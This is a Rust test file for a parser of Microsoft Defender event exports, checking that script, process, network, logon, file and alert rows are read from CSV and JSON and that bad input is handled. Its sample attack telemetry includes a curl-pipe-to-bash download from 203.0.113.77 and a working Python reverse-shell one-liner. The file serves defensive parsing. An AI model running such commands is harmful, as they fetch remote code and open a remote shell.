//! The Defender parser end to end through [`crate::parse`], on sample exports written for these
//! tests from the documented schemas (`events/tests/data/defender/`): the seed's kind of
//! DeviceEvents `ScriptContent` rows on a Linux device as CSV and as the API's JSON, process,
//! network, logon and file events, alerts and their evidence; then truncated, malformed and
//! arbitrary input.

use crate::{Error, Event, Format, Options, ParseIssue};

macro_rules! fixture {
    ($name:literal) => {
        include_bytes!(concat!("../../tests/data/defender/", $name)).as_slice()
    };
}

const HOST: &str = "wazuh1.x0rsjvjofsvujdf53bjf3swsje.bx.internal.cloudapp.net";

struct Parsed {
    format: Format,
    events: Vec<Event>,
    issues: Vec<ParseIssue>,
}

fn run_with(data: &[u8], format: Option<Format>, options: &Options) -> Result<Parsed, Error> {
    let mut events = Vec::new();
    let mut issues = Vec::new();
    let (format, counts) = crate::parse("sample", data, format, options, &mut |r| match r {
        Ok(e) => events.push(e),
        Err(i) => issues.push(i),
    })?;
    assert_eq!(counts.events, events.len() as u64);
    assert_eq!(counts.issues, issues.len() as u64);
    Ok(Parsed {
        format,
        events,
        issues,
    })
}

fn run(data: &[u8]) -> Parsed {
    run_with(data, None, &Options::default()).unwrap()
}

fn clean(data: &[u8]) -> Parsed {
    let p = run(data);
    assert!(p.issues.is_empty(), "{:#?}", p.issues);
    p
}

#[test]
fn script_content_csv_from_the_portal() {
    let data = fixture!("device_events_script_content.csv");
    assert!(
        data.starts_with(b"\xef\xbb\xbf"),
        "the sample keeps the portal's BOM"
    );
    let p = clean(data);
    assert_eq!(p.format, Format::DefenderCsv);
    assert_eq!(p.events.len(), 3);
    for e in &p.events {
        assert_eq!(e.host, HOST);
        assert_eq!(e.action, "ScriptContent");
        assert_eq!(e.source.table.as_deref(), Some("DeviceEvents"));
        assert_eq!(e.source.format, Format::DefenderCsv);
        assert!(
            !e.fields.contains_key("AdditionalFields"),
            "only ScriptContent was in it"
        );
        assert_eq!(
            e.fields["DeviceId"],
            "875524232b2377b606ca585f2a6692b5be921b94"
        );
    }
    let [sa1, jar, evil] = &p.events[..] else {
        unreachable!()
    };
    assert_eq!(sa1.time, "2025-11-07T06:40:09.38102Z");
    assert_eq!(jar.time, "2025-11-07T06:46:37.049669Z");
    assert_eq!(evil.time, "2025-11-07T07:02:13.7712345Z");
    let script = sa1.script.as_deref().unwrap();
    assert!(script.starts_with("#!/bin/sh\n# /usr/lib/sysstat/sa1: collect"));
    assert!(script.contains("[ \"$1\" = \"--boot\" ] && shift"));
    assert!(script.contains("\texec ${ENDIR}/sadc -F -L"));
    let proc = sa1.process.as_ref().unwrap();
    assert_eq!(proc.name.as_deref(), Some("dash"));
    assert_eq!(proc.exe.as_deref(), Some("/usr/bin/dash"));
    assert_eq!(proc.pid, Some(414_203));
    assert_eq!(proc.ppid, Some(611));
    assert_eq!(
        proc.command_line.as_deref(),
        Some("/bin/sh /usr/lib/sysstat/sa1 1 1")
    );
    let parent = sa1.parent.as_ref().unwrap();
    assert_eq!(
        (parent.name.as_deref(), parent.pid),
        (Some("cron"), Some(611))
    );
    assert_eq!(sa1.user.as_deref(), Some("root"));
    assert_eq!(sa1.origin.record, "line 2, ReportId 31337");
    assert_eq!(sa1.fields["InitiatingProcessParentFileName"], "cron");
    assert_eq!(sa1.fields["ReportId"], "31337");
    assert!(
        jar.script
            .as_deref()
            .unwrap()
            .contains("devserver_metadataupload_war.jar")
    );
    assert_eq!(
        jar.parent.as_ref().unwrap().name.as_deref(),
        Some("wdavdaemon")
    );
    let evil_script = evil.script.as_deref().unwrap();
    assert!(evil_script.contains("curl -fsSL http://203.0.113.77:8080/x.sh | bash\n"));
    assert!(evil_script.contains("# \"system update\" helper"));
    assert_eq!(evil.user.as_deref(), Some("www-data"));
    assert_eq!(
        evil.process.as_ref().unwrap().sha256.as_deref(),
        Some("9c1a7e0b3d22f0e6a1f4f08e1b8f0c3d2a7e5b9c4d1e0f2a3b4c5d6e7f8a9b0c")
    );
    assert_eq!(evil.origin.file, "sample");
}

#[test]
fn the_seed_reports_benign_scripts() {
    let p = clean(fixture!("seed001_script_content.csv"));
    let got: Vec<(&str, &str)> = p
        .events
        .iter()
        .map(|e| {
            let script = e.script.as_deref().unwrap();
            (e.time.as_str(), script.lines().nth(1).unwrap_or(""))
        })
        .collect();
    assert_eq!(
        got,
        [
            (
                "2025-11-07T06:40:09.38102Z",
                "# /usr/lib/sysstat/sa1: collect and store binary data in the daily"
            ),
            (
                "2025-11-07T06:46:37.049669Z",
                "# get_jar_data_list.py: inventory of JAR manifests (sample written for dossier's tests)"
            ),
            (
                "2025-11-07T06:46:37.247243Z",
                "# find_python_package.py: list installed Python packages (sample written for dossier's tests)"
            ),
            (
                "2025-11-07T06:46:38.168331Z",
                "# open_files.py: look for log4j in the open files of java processes (sample written for dossier's tests)"
            ),
            (
                "2025-11-07T06:55:01.964973Z",
                "# debian-sa1: run sa1 unless systemd timers do it (sample written for dossier's tests)"
            ),
        ]
    );
    assert!(
        p.events[3]
            .script
            .as_deref()
            .unwrap()
            .contains("/var/opt/microsoft/mdatp/wdavedr/log4jMitigationApplied")
    );
    assert_eq!(
        p.events[4]
            .process
            .as_ref()
            .unwrap()
            .command_line
            .as_deref(),
        Some("/bin/sh -c \"command -v debian-sa1 > /dev/null && debian-sa1 1 1\"")
    );
}

#[test]
fn script_content_api_json_gives_the_same_events() {
    let csv = clean(fixture!("device_events_script_content.csv"));
    let json = clean(fixture!("device_events_script_content.json"));
    assert_eq!(json.format, Format::DefenderJson);
    assert_eq!(json.events.len(), 3);
    for (i, (c, j)) in csv.events.iter().zip(&json.events).enumerate() {
        assert_eq!(j.source.format, Format::DefenderJson);
        assert_eq!(
            j.origin.record,
            format!("row {}, ReportId {}", i + 1, c.fields["ReportId"])
        );
        let mut j2 = j.clone();
        j2.source.format = Format::DefenderCsv;
        j2.origin.record = c.origin.record.clone();
        assert_eq!(&j2, c, "row {i} differs between CSV and JSON");
    }
}

#[test]
fn process_events_keep_the_created_process_and_its_parent() {
    let p = clean(fixture!("device_process_events.csv"));
    assert_eq!(p.events.len(), 4);
    assert!(
        p.events
            .iter()
            .all(|e| e.source.table.as_deref() == Some("DeviceProcessEvents"))
    );
    let lsof = &p.events[1];
    assert_eq!(lsof.action, "ProcessCreated");
    let proc = lsof.process.as_ref().unwrap();
    assert_eq!(proc.name.as_deref(), Some("lsof"));
    assert_eq!(proc.exe.as_deref(), Some("/usr/bin/lsof"));
    assert_eq!(proc.pid, Some(415_044));
    assert_eq!(
        proc.ppid,
        Some(415_044),
        "exec: the shell's pid is kept by lsof"
    );
    assert_eq!(
        proc.command_line.as_deref(),
        Some("lsof -a -c java -c javaw")
    );
    assert_eq!(
        proc.sha256.as_deref(),
        Some("3d1f2c2a0e0b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5")
    );
    assert_eq!(proc.user.as_deref(), Some("root"));
    let parent = lsof.parent.as_ref().unwrap();
    assert_eq!(parent.name.as_deref(), Some("dash"));
    assert_eq!(parent.pid, Some(415_044));
    assert_eq!(parent.ppid, Some(415_012));
    assert_eq!(
        parent.command_line.as_deref(),
        Some("/bin/sh -c \"lsof -a -c java -c javaw\"")
    );
    assert_eq!(lsof.fields["InitiatingProcessSignatureStatus"], "Unknown");
    assert_eq!(
        lsof.fields["ProcessCreationTime"],
        "2025-11-07T06:46:38.29932Z"
    );
    assert!(lsof.fields["AdditionalFields"].contains("\"PosixGroupId\": 997"));
    assert!(lsof.file.is_none() && lsof.script.is_none());
    // A command line with line breaks, commas and quotes inside one quoted CSV field.
    let py = &p.events[3];
    assert_eq!(py.origin.record, "lines 5-8, ReportId 5004");
    assert_eq!(
        py.process.as_ref().unwrap().command_line.as_deref(),
        Some(
            "python3 -c \"import os, pty, socket\ns = socket.create_connection(('203.0.113.77', \
             4445))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/bash')\""
        )
    );
    assert_eq!(py.user.as_deref(), Some("www-data"));
}

#[test]
fn network_events_from_json_lines() {
    let p = clean(fixture!("device_network_events.jsonl"));
    assert_eq!(p.format, Format::DefenderJson);
    assert_eq!(p.events.len(), 3);
    let shell = &p.events[1];
    assert_eq!(shell.source.table.as_deref(), Some("DeviceNetworkEvents"));
    assert_eq!(shell.action, "ConnectionSuccess");
    assert_eq!(shell.outcome.as_deref(), Some("success"));
    let peer = shell.peer.as_ref().unwrap();
    assert_eq!(
        (peer.addr.as_deref(), peer.port, peer.protocol.as_deref()),
        (Some("203.0.113.77"), Some(4444), Some("tcp"))
    );
    assert_eq!(
        shell.fields["Protocol"], "TcpV4",
        "the exact value is kept when reduced"
    );
    let local = shell.local.as_ref().unwrap();
    assert_eq!(
        (local.addr.as_deref(), local.port),
        (Some("10.0.0.4"), Some(51_560))
    );
    assert_eq!(
        shell.process.as_ref().unwrap().command_line.as_deref(),
        Some("bash -i")
    );
    assert_eq!(shell.user.as_deref(), Some("www-data"));
    assert_eq!(shell.origin.record, "line 2, ReportId 7002");
    assert!(!p.events[0].fields.contains_key("Protocol"));
    assert!(
        !p.events[0].fields.contains_key("RemoteUrl"),
        "empty columns are not kept"
    );
    let failed = &p.events[2];
    assert_eq!(failed.outcome.as_deref(), Some("failure"));
    assert_eq!(failed.fields["RemoteUrl"], "updates.example.net");
    assert_eq!(failed.time, "2025-11-07T07:03:00Z");
}

#[test]
fn logon_failures_then_success() {
    let p = clean(fixture!("device_logon_events.csv"));
    assert_eq!(p.events.len(), 5);
    let outcomes: Vec<_> = p
        .events
        .iter()
        .map(|e| e.outcome.as_deref().unwrap())
        .collect();
    assert_eq!(
        outcomes,
        ["failure", "failure", "failure", "success", "success"]
    );
    for e in &p.events[..4] {
        assert_eq!(e.source.table.as_deref(), Some("DeviceLogonEvents"));
        assert_eq!(e.user.as_deref(), Some("deploy"));
        assert_eq!(e.fields["LogonType"], "Network");
        let peer = e.peer.as_ref().unwrap();
        assert_eq!(peer.addr.as_deref(), Some("198.51.100.23"));
        assert!(
            peer.protocol.is_none(),
            "Protocol is the auth package here, not a transport"
        );
    }
    assert_eq!(
        p.events[0].fields["FailureReason"],
        "InvalidUserNameOrPassword"
    );
    assert_eq!(p.events[3].peer.as_ref().unwrap().port, Some(50_140));
    assert!(!p.events[3].fields.contains_key("FailureReason"));
    let cron = &p.events[4];
    assert_eq!(cron.user.as_deref(), Some("root"));
    assert_eq!(cron.fields["LogonType"], "Local");
    assert!(cron.peer.is_none());
    assert_eq!(
        cron.process.as_ref().unwrap().command_line.as_deref(),
        Some("/usr/sbin/cron -f -P")
    );
}

#[test]
fn file_events_join_folder_and_name_once() {
    let p = clean(fixture!("device_file_events.csv"));
    assert_eq!(p.events.len(), 2);
    let cron = &p.events[0];
    assert_eq!(cron.source.table.as_deref(), Some("DeviceFileEvents"));
    assert_eq!(cron.file.as_deref(), Some("/etc/cron.d/0update"));
    assert_eq!(
        cron.file_sha256.as_deref(),
        Some("5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8")
    );
    let del = &p.events[1];
    assert_eq!(del.action, "FileDeleted");
    assert_eq!(
        del.file.as_deref(),
        Some(
            "/var/lib/wazuh-indexer/nodes/0/indices/Qx3pV0aRRqWcGk1xd8dH2w/0/index/_1k_Lucene912_0.doc"
        )
    );
    let java = del.process.as_ref().unwrap();
    assert_eq!(
        java.exe.as_deref(),
        Some("/usr/share/wazuh-indexer/jdk/bin/java")
    );
    assert_eq!(del.user.as_deref(), Some("wazuh-indexer"));
    assert_eq!(del.parent.as_ref().unwrap().pid, Some(1));
}

#[test]
fn alert_info_and_evidence() {
    let options = Options {
        host: Some("fleet".into()),
    };
    let info = run_with(fixture!("alert_info.json"), None, &options).unwrap();
    assert!(info.issues.is_empty());
    assert_eq!(info.events.len(), 2);
    let a = &info.events[0];
    assert_eq!(a.source.table.as_deref(), Some("AlertInfo"));
    assert_eq!(a.action, "alert");
    assert_eq!(
        a.host, "fleet",
        "AlertInfo names no device: the host given is used"
    );
    assert_eq!(a.time, "2025-11-07T07:02:20.1234567Z");
    assert_eq!(a.fields["Title"], "Suspicious reverse shell");
    assert_eq!(a.fields["Severity"], "High");
    assert_eq!(a.fields["Category"], "Execution");
    assert!(a.fields["AttackTechniques"].contains("T1059.004"));
    assert_eq!(a.fields["AlertId"], "da638670000000000000_-123456789");
    assert_eq!(run(fixture!("alert_info.json")).events[0].host, "");

    let ev = clean(fixture!("alert_evidence.csv"));
    assert_eq!(ev.events.len(), 3);
    assert!(
        ev.events
            .iter()
            .all(|e| e.source.table.as_deref() == Some("AlertEvidence")
                && e.action == "alert_evidence"
                && e.host == HOST)
    );
    let proc = ev.events[0].process.as_ref().unwrap();
    assert_eq!(proc.exe.as_deref(), Some("/usr/bin/bash"));
    assert_eq!(proc.command_line.as_deref(), Some("bash -i"));
    assert_eq!(ev.events[0].fields["EvidenceRole"], "Impacted");
    assert_eq!(ev.events[0].fields["EntityType"], "Process");
    assert_eq!(
        ev.events[1].peer.as_ref().unwrap().addr.as_deref(),
        Some("203.0.113.77")
    );
    assert_eq!(ev.events[1].fields["EvidenceDirection"], "Destination");
    assert_eq!(ev.events[2].file.as_deref(), Some("/etc/cron.d/0update"));
    assert_eq!(ev.events[2].fields["Categories"], "[\"Persistence\"]");
}

#[test]
fn rows_printed_one_after_the_other_by_jq() {
    let text = "{\n  \"Timestamp\": \"2025-11-07T06:40:09Z\",\n  \"DeviceName\": \"h1\",\n  \"ActionType\": \"X\"\n}\n\
                {\n  \"Timestamp\": \"bad\",\n  \"DeviceName\": \"h1\"\n}\n\
                {\n  \"Timestamp\": \"2025-11-07T06:40:10Z\",\n  \"DeviceName\": \"h1\"\n}\n";
    let p = run(text.as_bytes());
    assert_eq!(p.format, Format::DefenderJson);
    assert_eq!(p.events.len(), 2);
    assert_eq!(p.events[0].origin.record, "line 1");
    assert_eq!(p.events[1].origin.record, "line 10");
    assert_eq!(p.issues.len(), 1);
    assert_eq!(p.issues[0].record, "line 6");
}

#[test]
fn device_state_rows_without_action_type() {
    let info = clean(fixture!("device_info.json"));
    assert_eq!(info.events.len(), 1);
    let d = &info.events[0];
    assert_eq!(d.source.table.as_deref(), Some("DeviceInfo"));
    assert_eq!(d.action, "DeviceInfo");
    assert_eq!(d.time, "2025-11-07T06:46:02.9561661Z");
    assert_eq!(d.user.as_deref(), Some("LOGIN"));
    assert_eq!(d.fields["LoggedOnUsers"], "[{\"UserName\":\"LOGIN\"}]");
    assert_eq!(d.fields["MachineGroup"], "UnassignedGroup");
    assert_eq!(d.fields["PublicIP"], "192.0.2.10");
    assert_eq!(d.fields["DeviceType"], "Workstation");
    assert_eq!(
        d.fields["IsAzureADJoined"], "false",
        "JSON booleans are kept as text"
    );
    assert_eq!(d.fields["OSBuild"], "6");
    assert!(d.fields["AdditionalFields"].contains("virtualMachines/Wazuh1"));
    assert!(!d.fields.contains_key("IsInternetFacing"), "null is empty");

    let net = clean(fixture!("device_network_info.csv"));
    assert_eq!(net.events.len(), 2);
    for e in &net.events {
        assert_eq!(e.source.table.as_deref(), Some("DeviceNetworkInfo"));
        assert_eq!(e.action, "DeviceNetworkInfo");
        assert_eq!(e.fields["MacAddress"], "00-22-48-00-A8-6C");
        assert!(e.fields["IPAddresses"].contains("fe80::222:48ff:fe00:a86c"));
    }
    assert_eq!(net.events[1].fields["NetworkAdapterName"], "enP28238s1");
}

#[test]
fn graph_hunting_response_with_lower_case_keys() {
    let text = br#"{"schema":[{"name":"Timestamp","type":"DateTime"},{"name":"DeviceName","type":"String"},
        {"name":"ActionType","type":"String"}],
        "results":[{"Timestamp":"2025-11-07T06:40:09.1Z","DeviceName":"h1","ActionType":"ScriptContent"}]}"#;
    let p = clean(text);
    assert_eq!(p.format, Format::DefenderJson);
    assert_eq!(p.events[0].origin.record, "row 1");
    let no_results = run_with(
        br#"{"Stats":{}, "Schema":[{"Name":"Timestamp"}]}"#,
        None,
        &Options::default(),
    );
    assert!(
        matches!(no_results, Err(Error::Unknown { .. })),
        "no device column: not sniffed"
    );
    let no_results = run_with(
        br#"{"Stats":{}, "Schema":[{"Name":"Timestamp"}]}"#,
        Some(Format::DefenderJson),
        &Options::default(),
    );
    assert!(
        no_results
            .err()
            .unwrap()
            .to_string()
            .contains("without Results")
    );
}

#[test]
fn gzip_compressed_export_reads_the_same() {
    use std::io::Write;
    let data = fixture!("device_events_script_content.csv");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(data).unwrap();
    let packed = gz.finish().unwrap();
    assert_eq!(clean(&packed).events, clean(data).events);
}

#[test]
fn a_truncated_csv_keeps_the_rows_before_and_says_where_it_ends() {
    let data = fixture!("device_events_script_content.csv");
    let cut = data.windows(7).rposition(|w| w == b"bash -i").unwrap();
    let p = run(&data[..cut]);
    assert_eq!(p.events.len(), 2);
    assert_eq!(p.issues.len(), 1);
    assert_eq!(p.issues[0].record, "line 4");
    assert!(
        p.issues[0].reason.contains("truncated"),
        "{}",
        p.issues[0].reason
    );
}

#[test]
fn a_truncated_api_response_keeps_the_rows_before() {
    let data = fixture!("device_events_script_content.json");
    let cut = data.windows(7).rposition(|w| w == b"bash -i").unwrap();
    let p = run(&data[..cut]);
    assert_eq!(p.events.len(), 2);
    assert_eq!(p.issues.len(), 1);
    assert!(
        p.issues[0].reason.contains("ends early after 2 rows"),
        "{}",
        p.issues[0].reason
    );
    assert!(p.issues[0].record.starts_with("line "));
}

#[test]
fn a_broken_row_inside_the_results_is_one_issue_and_the_next_row_is_read() {
    let row =
        |t: &str| format!("{{\"Timestamp\":\"{t}\",\"DeviceName\":\"h1\",\"ActionType\":\"X\"}}");
    let big = format!(
        "{{\"Timestamp\":\"2025-11-07T06:40:09Z\",\"DeviceName\":\"{}\"}}",
        "a".repeat(crate::defender::json::MAX_LINE_BYTES)
    );
    let text = format!(
        "{{\"Schema\":[{{\"Name\":\"Timestamp\",\"Type\":\"DateTime\"}}],\n\"Results\":[\n{},\n{{\"Timestamp\": nope}},\n{big},\n{}\n],\"Stats\":{{\"ExecutionTime\":0.1}}}}",
        row("2025-11-07T06:40:09Z"),
        row("2025-11-07T06:40:10Z"),
    );
    let p = run(text.as_bytes());
    assert_eq!(p.events.len(), 2);
    assert_eq!(p.events[1].origin.record, "row 4");
    let got: Vec<_> = p
        .issues
        .iter()
        .map(|i| (i.record.as_str(), i.reason.as_str()))
        .collect();
    assert_eq!(got.len(), 2, "{got:#?}");
    assert_eq!(got[0].0, "row 2");
    assert!(got[0].1.starts_with("invalid JSON"), "{}", got[0].1);
    assert_eq!(got[1], ("row 3", "row over 16 MiB, skipped"));

    let no_comma = format!(
        "[{} {}]",
        row("2025-11-07T06:40:09Z"),
        row("2025-11-07T06:40:10Z")
    );
    let p = run(no_comma.as_bytes());
    assert_eq!(p.events.len(), 1);
    assert_eq!(p.issues.len(), 1);
    assert!(
        p.issues[0]
            .reason
            .contains("expected ',' or ']' between rows"),
        "{}",
        p.issues[0].reason
    );
}

const HEAD: &str =
    "Timestamp,DeviceName,ActionType,InitiatingProcessFileName,ReportId,AdditionalFields\n";

#[test]
fn bad_rows_are_issues_and_the_file_goes_on() {
    let text = format!(
        "{HEAD}2025-11-07T06:40:09Z,h1,ScriptContent,dash,1,\"{{\"\"ScriptContent\"\":\"\"echo ok\"\"}}\"\n\
         2025-11-07T06:40:10Z,h1,ScriptContent,dash,2\n\
         2025-13-07T06:40:11Z,h1,ScriptContent,dash,3,\n\
         2025-11-07T06:40:12Z,h1,ScriptContent,dash,4,\"{{\"\"ScriptContent\"\": \"\"unterminated}}\"\n\
         ,h1,ScriptContent,dash,5,\n\
         \n\
         2025-11-07T06:40:13Z,h1,ProcessCreated,dash,6,\n"
    );
    let p = run(text.as_bytes());
    assert_eq!(p.events.len(), 2);
    assert_eq!(p.events[0].script.as_deref(), Some("echo ok"));
    assert_eq!(p.events[1].origin.record, "line 8, ReportId 6");
    assert_eq!(
        p.events[1].source.table.as_deref(),
        Some("DeviceProcessEvents")
    );
    let got: Vec<(&str, &str)> = p
        .issues
        .iter()
        .map(|i| (i.record.as_str(), i.reason.as_str()))
        .collect();
    assert_eq!(got.len(), 4, "{got:#?}");
    assert_eq!(
        got[0],
        ("line 3", "5 fields where the header has 6 columns")
    );
    assert_eq!(got[1].0, "line 4, ReportId 3");
    assert!(got[1].1.contains("not a date and time"), "{}", got[1].1);
    assert_eq!(got[2].0, "line 5, ReportId 4");
    assert!(
        got[2].1.starts_with("AdditionalFields is not valid JSON"),
        "{}",
        got[2].1
    );
    assert_eq!(got[3], ("line 6, ReportId 5", "no Timestamp"));
}

#[test]
fn a_header_without_timestamp_is_a_format_error() {
    let err = run_with(
        b"DeviceName,ActionType\nh1,ScriptContent\n",
        Some(Format::DefenderCsv),
        &Options::default(),
    )
    .err()
    .unwrap();
    let msg = err.to_string();
    assert!(matches!(err, Error::Format { .. }));
    assert!(msg.contains("no Timestamp column"), "{msg}");
    assert!(msg.contains("DeviceName, ActionType"), "{msg}");
    assert!(!msg.contains('\n'));
    let err = run_with(
        br#"{"Schema":[{"Name":"DeviceName","Type":"String"}],"Results":[{"DeviceName":"h"}]}"#,
        Some(Format::DefenderJson),
        &Options::default(),
    )
    .err()
    .unwrap();
    assert!(err.to_string().contains("Schema has no Timestamp"), "{err}");
    assert!(matches!(
        run_with(b"", Some(Format::DefenderCsv), &Options::default()),
        Err(Error::Format { .. })
    ));
}

#[test]
fn times_without_a_zone_are_read_as_utc_and_kept_as_given() {
    let text = "Timestamp,DeviceName,ActionType\n\"11/7/2025, 6:40:09.381 AM\",h1,ScriptContent\n";
    let p = clean(text.as_bytes());
    let e = &p.events[0];
    assert_eq!(e.time, "2025-11-07T06:40:09.381Z");
    assert_eq!(e.fields["Timestamp"], "11/7/2025, 6:40:09.381 AM");
    assert!(e.fields[crate::defender::row::NOTE].contains("read as UTC"));
}

#[test]
fn spreadsheet_saved_csv_with_semicolons_or_tabs() {
    let semi = "\u{feff}Timestamp;DeviceName;ActionType;AccountName;ProcessCommandLine;ProcessId;FileName\r\n\
                07.11.2025 07:02:14,001;wazuh1;ProcessCreated;www-data;\"curl -fsSL http://203.0.113.77:8080/x.sh; id\";416671;curl\r\n";
    let p = clean(semi.as_bytes());
    assert_eq!(p.format, Format::DefenderCsv);
    let e = &p.events[0];
    assert_eq!(e.time, "2025-11-07T07:02:14.001Z");
    assert_eq!(e.fields["Timestamp"], "07.11.2025 07:02:14,001");
    assert_eq!(e.source.table.as_deref(), Some("DeviceProcessEvents"));
    let proc = e.process.as_ref().unwrap();
    assert_eq!(
        proc.command_line.as_deref(),
        Some("curl -fsSL http://203.0.113.77:8080/x.sh; id")
    );
    assert_eq!(proc.pid, Some(416_671));
    let tabs = "Timestamp\tDeviceName\tActionType\n2025-11-07T07:02:14Z\twazuh1\tLogonFailed\n";
    let p = clean(tabs.as_bytes());
    assert_eq!(p.events[0].outcome.as_deref(), Some("failure"));
}

#[test]
fn projections_are_told_by_action_type_or_by_a_table_column() {
    let text = "Timestamp,DeviceName,ActionType,FileName,FolderPath\n\
                2025-11-07T06:40:09Z,h1,FileCreated,x.sh,/tmp\n\
                2025-11-07T06:40:10Z,h1,ProcessCreated,curl,/usr/bin/curl\n\
                2025-11-07T06:40:11Z,h1,LogonFailed,,\n\
                2025-11-07T06:40:12Z,h1,ConnectionRequest,,\n\
                2025-11-07T06:40:13Z,h1,ScriptContent,,\n";
    let p = clean(text.as_bytes());
    let tables: Vec<_> = p
        .events
        .iter()
        .map(|e| e.source.table.clone().unwrap())
        .collect();
    assert_eq!(
        tables,
        [
            "DeviceFileEvents",
            "DeviceProcessEvents",
            "DeviceLogonEvents",
            "DeviceNetworkEvents",
            "DeviceEvents"
        ]
    );
    assert_eq!(p.events[0].file.as_deref(), Some("/tmp/x.sh"));
    assert_eq!(
        p.events[1].process.as_ref().unwrap().exe.as_deref(),
        Some("/usr/bin/curl")
    );
    let union_columns = "Timestamp,DeviceName,ActionType,FileName,ProcessCommandLine,RemoteIP,RemotePort,LocalIP,LocalIPType\n\
                         2025-11-07T06:40:09Z,h1,ProcessCreated,curl,curl x,,,,\n\
                         2025-11-07T06:40:10Z,h1,ConnectionSuccess,,,203.0.113.77,80,10.0.0.4,Private\n\
                         2025-11-07T06:40:11Z,h1,SomethingElse,,,,,,\n";
    let p = clean(union_columns.as_bytes());
    let tables: Vec<_> = p
        .events
        .iter()
        .map(|e| e.source.table.clone().unwrap())
        .collect();
    assert_eq!(
        tables,
        [
            "DeviceProcessEvents",
            "DeviceNetworkEvents",
            "DeviceNetworkEvents"
        ],
        "each row by its action; the columns decide the rest"
    );
    let union = "{\"TableName\":\"DeviceLogonEvents\",\"Timestamp\":\"2025-11-07T06:40:09Z\",\
                 \"DeviceName\":\"h1\",\"ActionType\":\"Weird\"}\n";
    let p = clean(union.as_bytes());
    assert_eq!(
        p.events[0].source.table.as_deref(),
        Some("DeviceLogonEvents")
    );
    assert_eq!(p.events[0].fields["TableName"], "DeviceLogonEvents");
}

#[test]
fn additional_fields_beside_the_script_are_kept() {
    let text = "Timestamp,DeviceName,ActionType,AdditionalFields\n\
                2025-11-07T06:40:09Z,h1,ScriptContent,\"{\"\"ScriptContent\"\":\"\"id\"\",\"\"ScriptSha\"\":\"\"ab\"\"}\"\n\
                2025-11-07T06:40:10Z,h1,Other,plain words\n\
                2025-11-07T06:40:11Z,h1,Other,\"[1,2]\"\n";
    let p = clean(text.as_bytes());
    assert_eq!(p.events[0].script.as_deref(), Some("id"));
    assert_eq!(
        p.events[0].fields["AdditionalFields"],
        "{\"ScriptSha\":\"ab\"}"
    );
    assert_eq!(p.events[1].fields["AdditionalFields"], "plain words");
    assert_eq!(p.events[2].fields["AdditionalFields"], "[1,2]");
}

#[test]
fn latin1_rows_are_read_and_noted() {
    let p = clean(b"Timestamp,DeviceName,ActionType\n2025-11-07T06:40:09Z,caf\xe9,X\n");
    assert_eq!(p.events[0].host, "caf\u{e9}");
    assert!(p.events[0].fields[crate::defender::row::NOTE].contains("Latin-1"));
    let both = clean(b"Timestamp,DeviceName\n11/7/2025 6:40 AM,caf\xe9\n");
    let note = &both.events[0].fields[crate::defender::row::NOTE];
    assert!(
        note.contains("read as UTC") && note.contains("; some fields were not UTF-8"),
        "{note}"
    );
    let p = clean(b"{\"Timestamp\":\"2025-11-07T06:40:09Z\",\"DeviceName\":\"caf\xe9\"}\n");
    assert_eq!(p.events[0].host, "caf\u{e9}");
    assert!(p.events[0].fields[crate::defender::row::NOTE].contains("Latin-1"));
}

#[test]
fn sniffing() {
    use crate::defender::sniff;
    assert_eq!(
        sniff(fixture!("device_events_script_content.csv")),
        Some(Format::DefenderCsv)
    );
    assert_eq!(
        sniff(fixture!("device_events_script_content.json")),
        Some(Format::DefenderJson)
    );
    assert_eq!(
        sniff(fixture!("device_network_events.jsonl")),
        Some(Format::DefenderJson)
    );
    assert_eq!(
        sniff(fixture!("alert_info.json")),
        Some(Format::DefenderJson)
    );
    assert_eq!(
        sniff(fixture!("alert_evidence.csv")),
        Some(Format::DefenderCsv)
    );
    assert_eq!(
        sniff(b"\"Timestamp [UTC]\",\"DeviceName\"\r\n"),
        Some(Format::DefenderCsv)
    );
    assert_eq!(sniff(b"Timestamp,FileName\n"), None);
    assert_eq!(
        sniff(b"{\"__REALTIME_TIMESTAMP\":\"1\",\"_HOSTNAME\":\"h\"}\n"),
        None
    );
    assert_eq!(
        sniff(b"type=SYSCALL msg=audit(1.0:1): arch=c000003e\n"),
        None
    );
    assert_eq!(sniff(b""), None);
}

#[test]
fn garbage_is_unknown_or_an_error_never_a_panic() {
    let junk = b"\x00\x01\xff\xfe not, a \"file\n{[";
    assert!(matches!(
        run_with(junk, None, &Options::default()),
        Err(Error::Unknown { .. })
    ));
    assert!(run_with(junk, Some(Format::DefenderCsv), &Options::default()).is_err());
    assert!(run_with(junk, Some(Format::DefenderJson), &Options::default()).is_err());
    let p = run_with(
        b"[1, \"x\", null, {\"a\":1}]",
        Some(Format::DefenderJson),
        &Options::default(),
    )
    .unwrap();
    assert_eq!((p.events.len(), p.issues.len()), (0, 4));
    assert_eq!(p.issues[3].reason, "row has no Timestamp");
}

#[test]
fn an_overlong_json_line_is_skipped_and_the_next_read() {
    let good =
        "{\"Timestamp\":\"2025-11-07T06:40:09Z\",\"DeviceName\":\"h1\",\"ActionType\":\"X\"}\n";
    let mut data = good.as_bytes().to_vec();
    data.extend_from_slice(b"{\"Timestamp\":\"");
    data.extend(std::iter::repeat_n(
        b'a',
        crate::defender::json::MAX_LINE_BYTES + 5,
    ));
    data.extend_from_slice(b"\"}\n");
    data.extend_from_slice(good.as_bytes());
    let p = run(&data);
    assert_eq!(p.events.len(), 2);
    assert_eq!(p.events[1].origin.record, "line 3");
    assert_eq!(p.issues.len(), 1);
    assert_eq!(p.issues[0].record, "line 2");
    assert!(p.issues[0].reason.contains("over 16 MiB"));
}

/// xorshift64*: deterministic bytes for the no-panic test.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

#[test]
fn arbitrary_bytes_never_panic() {
    let seeds: [&[u8]; 5] = [
        fixture!("device_events_script_content.csv"),
        fixture!("device_events_script_content.json"),
        fixture!("device_network_events.jsonl"),
        fixture!("alert_info.json"),
        fixture!("device_logon_events.csv"),
    ];
    const PIECES: [&[u8]; 24] = [
        b",",
        b"\"",
        b"\n",
        b"\r",
        b"{",
        b"}",
        b"[",
        b"]",
        b":",
        b"\\",
        b" ",
        b"a",
